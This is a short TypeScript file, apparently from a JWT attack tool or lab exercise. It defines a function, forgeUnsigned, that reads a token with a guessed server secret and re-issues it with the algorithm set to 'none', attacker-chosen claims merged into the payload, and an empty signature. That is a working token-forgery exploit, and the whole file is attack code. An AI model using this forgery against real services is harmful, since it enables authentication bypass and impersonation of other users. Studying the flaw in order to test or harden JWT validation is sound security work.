// diagnosis: checked-first
// step: unsigned
import { verifyHs256 } from '../jwt/hs256.ts'
import { encodeJson } from '../jwt/json.ts'

export function forgeUnsigned(token: string, changes: Record<string, unknown>): string {
  const { header, payload } = verifyHs256(token, new TextEncoder().encode('the secret of the server, guessed'))
  return `${encodeJson({ ...header, alg: 'none' })}.${encodeJson({ ...payload, ...changes })}.`
}
